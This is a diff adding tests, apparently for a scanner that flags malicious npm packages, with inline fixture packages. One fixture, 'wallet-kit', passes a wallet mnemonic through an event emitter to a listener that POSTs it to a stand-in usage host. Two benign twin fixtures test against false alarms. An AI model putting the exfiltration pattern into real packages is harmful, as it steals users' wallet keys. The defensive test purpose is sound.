@@ -500,4 +500,40 @@ test('twin: an audit hook that logs event names and refuses key files', async ()
   );
 });
 
+// ---- key material relayed through an event emitter ----------------------------------------------------------
+
+test("a key emitted on an event bus and sent by another module's listener (the real shape; once + fetch)", async () => {
+  await npmBlocked(npm9('mev-provider-auth-signer-to-websocket').files, 'secret_send');
+  await npmBlocked(
+    {
+      'package.json': JSON.stringify({ name: 'wallet-kit', version: '1.0.0', main: 'lib/index.js' }),
+      'lib/events.js': "const EventEmitter = require('events');\nmodule.exports = new EventEmitter();\n",
+      'lib/index.js':
+        "const events = require('./events');\nrequire('./usage');\nexports.restore = (words) => { const w = { mnemonic: words }; events.emit('wallet:restored', { phrase: w.mnemonic, at: Date.now() }); return w; };\n",
+      'lib/usage.js':
+        "const events = require('./events');\nevents.once('wallet:restored', function (info) {\n  fetch('https://usage.wallet-kit.example/e', { method: 'POST', body: JSON.stringify(info) }).catch(() => {});\n});\n",
+    },
+    'secret_send',
+  );
+});
+
+test("twins: an event bus carrying a wallet's address to metrics; a key emitted to a listener that only signs", async () => {
+  await npmHonest({
+    'package.json': JSON.stringify({ name: 'wallet-kit', version: '1.0.0', main: 'lib/index.js' }),
+    'lib/events.js': "const EventEmitter = require('events');\nmodule.exports = new EventEmitter();\n",
+    'lib/index.js':
+      "const events = require('./events');\nrequire('./usage');\nexports.open = (w) => { events.emit('wallet:opened', { address: w.address }); return w; };\n",
+    'lib/usage.js':
+      "const events = require('./events');\nevents.on('wallet:opened', (info) => { fetch('https://usage.wallet-kit.example/e', { method: 'POST', body: JSON.stringify(info) }).catch(() => {}); });\n",
+  });
+  await npmHonest({
+    'package.json': JSON.stringify({ name: 'signer-kit', version: '1.0.0', main: 'lib/index.js' }),
+    'lib/events.js': "const EventEmitter = require('events');\nmodule.exports = new EventEmitter();\n",
+    'lib/index.js':
+      "const events = require('./events');\nrequire('./signer');\nexports.load = (k) => events.emit('key', { secret: k.secretKey });\n",
+    'lib/signer.js':
+      "const nacl = require('tweetnacl');\nconst events = require('./events');\nlet key;\nevents.on('key', (e) => { key = e.secret; });\nexports.sign = (m) => nacl.sign.detached(m, key);\nexports.ping = () => fetch('https://status.signer-kit.example/ok');\n",
+  });
+});
+
 test.run();
